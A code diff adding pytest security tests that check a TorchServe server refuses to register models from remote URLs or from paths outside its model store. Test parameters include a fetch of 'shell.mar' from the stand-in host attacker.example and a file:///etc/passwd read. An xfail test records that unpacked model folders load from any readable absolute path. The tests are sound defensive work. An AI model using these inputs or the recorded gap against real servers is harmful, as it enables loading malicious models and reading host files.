@@ -5,7 +5,10 @@ the management key, on the management port."""
 from __future__ import annotations
 
 import os
+import shutil
 import socket
+import zipfile
+from pathlib import Path
 
 import httpx
 import psutil
@@ -115,3 +118,82 @@ def test_the_inference_and_metrics_ports_serve_no_management_routes(torchserve):
     for method, path in CHANGES:  # metrics needs no key, and serves only /metrics
         assert httpx.request(method, f"{endpoints.metrics}{path}", timeout=30).status_code == 404
     assert loaded(torchserve).keys() == {"mnist 1.0", "mnist 2.0"}
+
+
+@pytest.fixture
+def elsewhere(tmp_path_factory, model_store) -> Path:
+    """A folder outside the model store holding a copy of a real archive, other.mar, and the same archive unpacked."""
+    folder = tmp_path_factory.mktemp("elsewhere")
+    shutil.copyfile(model_store / "mnist.mar", folder / "other.mar")
+    with zipfile.ZipFile(model_store / "mnist.mar") as archive:
+        archive.extractall(folder / "unpacked")
+    return folder
+
+
+@pytest.fixture
+def store_files(torchserve, model_store):
+    """The model store's files before the test; afterwards the model "intruder" is unregistered and any file the test
+    left in the store is removed (a registration that got through must not leak into later tests)."""
+    before = sorted(model_store.iterdir())
+    yield before
+    unregister_intruder(torchserve)
+    for path in set(model_store.iterdir()) - set(before):
+        path.unlink()
+
+
+def register(torchserve, url: str, *, endpoint: str = "/models") -> httpx.Response:
+    headers = {"Authorization": f"Bearer {torchserve.keys()['management']}"}
+    params = {"url": url, "model_name": "intruder", "initial_workers": 0}
+    return httpx.post(f"{torchserve.endpoints.management}{endpoint}", params=params, headers=headers, timeout=60)
+
+
+def unregister_intruder(torchserve) -> None:
+    headers = {"Authorization": f"Bearer {torchserve.keys()['management']}"}
+    httpx.delete(f"{torchserve.endpoints.management}/models/intruder", headers=headers, timeout=30)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://127.0.0.1:9/shell.mar",  # nothing listens on port 9: refused before trying, not "Failed to download"
+        "https://attacker.example/shell.mar",
+        "file:///etc/passwd",  # copied into the store before (and answered 500 "Failed to save model")
+        "file://{elsewhere}/other.mar",
+        "file://{store}/mnist.mar",  # the store's own archives are registered by file name, not by URL
+    ],
+)
+def test_registering_from_a_url_is_refused_and_copies_nothing(torchserve, model_store, elsewhere, store_files, url):
+    """Even with the management key, TorchServe fetches no URL and copies no file into the model store."""
+    url = url.format(elsewhere=elsewhere, store=model_store)
+    before = loaded(torchserve)
+    for endpoint in ("/models", "/workflows"):
+        response = register(torchserve, url, endpoint=endpoint)
+        assert response.status_code == 404, response.text
+        assert response.json()["message"] == f"Given URL {url} does not match any allowed URL(s)"
+    assert sorted(model_store.iterdir()) == store_files
+    assert loaded(torchserve) == before
+
+
+def test_an_absolute_path_outside_the_store_is_not_loaded(torchserve, model_store, elsewhere, store_files):
+    """A path is not a URL to TorchServe (allowed_urls does not apply): it looks for the file's name in the store."""
+    for path in (elsewhere / "other.mar", Path("/etc/passwd")):
+        response = register(torchserve, str(path))
+        assert response.status_code == 404, response.text
+        assert response.json()["message"] == f"Model not found at: {path}"
+    assert sorted(model_store.iterdir()) == store_files
+    assert loaded(torchserve).keys() == {"mnist 1.0", "mnist 2.0"}
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="TorchServe 0.12 loads an unpacked model folder from any absolute path it can "
+    "read; allowed_urls applies to URLs only and no setting limits paths (README Security)",
+)
+def test_an_unpacked_model_folder_outside_the_store_is_not_loaded(torchserve, elsewhere, store_files):
+    assert register(torchserve, str(elsewhere / "unpacked")).status_code == 404
+
+
+def test_an_archive_of_the_store_is_still_registered_by_file_name(torchserve, store_files):
+    response = register(torchserve, "mnist.mar")
+    assert response.status_code == 200, response.text
+    assert "intruder 1.0" in loaded(torchserve)
